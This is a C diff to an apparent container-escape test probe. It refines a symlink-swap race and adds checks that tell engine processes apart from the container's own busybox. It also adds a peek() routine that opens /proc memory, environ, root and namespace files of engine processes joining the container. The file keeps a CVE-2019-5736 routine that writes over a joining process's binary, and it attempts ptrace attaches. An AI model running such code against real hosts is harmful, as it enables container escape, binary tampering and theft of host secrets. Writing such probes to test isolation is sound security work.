@@ -44,11 +44,12 @@ static int fds(void)
 	return 0;
 }
 
-/* Swaps each NAME with NAME.link for ever; says so every now and then. */
+/* Swaps each NAME with NAME.link for ever; how often is in /swaps. */
 static int race(char **names)
 {
 	unsigned long n = 0;
-	char other[256];
+	char other[256], text[32];
+	int fd = open("/swaps", O_WRONLY | O_CREAT | O_TRUNC, 0644), len;
 	size_t i;
 
 	for (;;) {
@@ -60,13 +61,11 @@ static int race(char **names)
 				return 1;
 			}
 		}
-		if (++n % 1000 == 0) {
-			int fd = open("/swaps", O_WRONLY | O_CREAT | O_TRUNC,
-				      0644);
-
-			dprintf(fd, "%lu\n", n);
-			close(fd);
-		}
+		if (++n % 16 != 0)
+			continue;
+		len = snprintf(text, sizeof(text), "%lu\n", n);
+		if (pwrite(fd, text, (size_t)len, 0) != len)
+			return say(-1);
 	}
 }
 
@@ -185,12 +184,32 @@ static int is_engine(int pid)
 			 strspn(name, "0123456789") == (size_t)n - 1);
 }
 
-static time_t seconds(void)
+/* Is it the program already? The kernel changes a process's memory before its
+ * name. What its program is may be seen. */
+static int is_program(const char *exe)
 {
-	struct timespec t;
+	static const char want[] = "/busybox";
+	char link[256];
+	ssize_t n = readlink(exe, link, sizeof(link));
 
-	clock_gettime(CLOCK_MONOTONIC, &t);
-	return t.tv_sec;
+	return n >= (ssize_t)sizeof(want) - 1 &&
+	       memcmp(link + n - (sizeof(want) - 1), want, sizeof(want) - 1) ==
+		       0;
+}
+
+/* Still the engine's? One that ends has lost its memory, and with it its
+ * program, before its name goes: what opens of it is empty. */
+static int is_still(int pid)
+{
+	char exe[32], c;
+
+	snprintf(exe, sizeof(exe), "/proc/%d/exe", pid);
+	if (!is_engine(pid) || is_program(exe))
+		return 0;
+	if (readlink(exe, &c, 1) < 0 && errno != EACCES && errno != EPERM)
+		return 0;
+	/* One that has gone meanwhile refuses, too. */
+	return is_engine(pid);
 }
 
 /* CVE-2019-5736: holds the binary of whoever joins and writes to it. */
@@ -203,8 +222,12 @@ static int overwrite(int pid, int *held)
 	fd = open(path, O_RDONLY | O_CLOEXEC);
 	if (fd < 0)
 		return 0;
-	++*held;
 	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
+	if (is_program(path)) {
+		close(fd);
+		return 0;
+	}
+	++*held;
 	out = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
 	if (out < 0 && errno == ETXTBSY)
 		out = open(path, O_WRONLY | O_CLOEXEC);
@@ -220,26 +243,64 @@ static int trace(int pid)
 
 	if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
 		return 0;
-	still = is_engine(pid);
+	still = is_still(pid);
 	ptrace(PTRACE_DETACH, pid, 0, 0);
 	return still;
 }
 
-/* Is there for whoever joins, N seconds long: what it saw, and did to it. */
-static int lurk(const char *how, int n)
+/* What of a process of the engine's opens that only its own may see. */
+static int peek(int pid)
 {
-	time_t end = seconds() + n;
+	static const char *const names[] = {
+		"root", "cwd",	"exe",	"mem",	"environ", "maps",
+		"fd/0", "fd/3", "fd/4", "fd/5", "fd/6",	   "ns/mnt"};
+	char path[48], c;
+	size_t i;
+	int fd, got = 0;
+
+	for (i = 0; i < sizeof(names) / sizeof(*names); i++) {
+		snprintf(path, sizeof(path), "/proc/%d/%s", pid, names[i]);
+		fd = open(path, O_RDONLY | O_CLOEXEC);
+		if (fd < 0)
+			continue;
+		/* Or was it the program already, which it may see, or has it
+		 * ended? Then there is nothing to read. */
+		if (read(fd, &c, 1) != 0 && is_still(pid) && got++ < 3)
+			printf("%s ", path);
+		close(fd);
+	}
+	return got;
+}
+
+static volatile sig_atomic_t enough;
+
+static void stop(int sig)
+{
+	(void)sig;
+	enough = 1;
+}
+
+/* Is there for whoever joins, until SIGTERM: says when it has seen the engine
+ * often, and at the end what it did to it. */
+static int lurk(const char *how)
+{
 	int me = getpid(), pid, seen = 0, done = 0, held = 0;
 
+	signal(SIGTERM, stop);
 	puts("ready");
 	fflush(stdout);
-	while (seconds() < end) {
-		for (pid = me + 1; pid < me + 200; pid++) {
+	while (!enough) {
+		for (pid = me + 1; pid < me + 400; pid++) {
 			if (!is_engine(pid))
 				continue;
-			seen++;
-			done += strcmp(how, "exe") == 0 ? overwrite(pid, &held)
-							: trace(pid);
+			if (++seen == 30) {
+				puts("often");
+				fflush(stdout);
+			}
+			if (!strcmp(how, "exe"))
+				done += overwrite(pid, &held);
+			else
+				done += peek(pid) + trace(pid);
 		}
 		while (waitpid(-1, NULL, WNOHANG | __WALL) > 0)
 			continue;
@@ -304,7 +365,7 @@ int main(int argc, char **argv)
 	if (!strcmp(what, "mknods"))
 		return mknods();
 	if (!strcmp(what, "lurk"))
-		return lurk(arg, argc > 3 ? atoi(argv[3]) : 5);
+		return lurk(arg);
 	if (!strcmp(what, "naps"))
 		return naps();
 	if (!strcmp(what, "bomb"))
